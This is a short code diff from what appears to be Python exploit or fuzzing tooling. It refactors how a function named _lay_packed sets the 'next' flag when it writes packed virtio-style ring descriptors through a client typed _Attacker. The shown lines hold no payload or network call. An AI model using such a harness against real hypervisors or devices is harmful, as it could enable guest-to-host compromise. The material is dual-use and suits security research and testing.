@@ -195,7 +195,8 @@ def _lay_packed(client: _Attacker, size: int, address: int, each: int, table: in
         if table:
             client.put(_DESC + 16 * slot, "QIHH", _TABLE, 16 * table, slot, _INDIRECT | _AVAIL)
         else:
-            client.put(_DESC + 16 * slot, "QIHH", address, each, 0, _WRITE | _AVAIL | _NEXT * (slot < size - 2))
+            link = _NEXT if slot < size - 2 else 0
+            client.put(_DESC + 16 * slot, "QIHH", address, each, 0, _WRITE | _AVAIL | link)
     return []
 
 
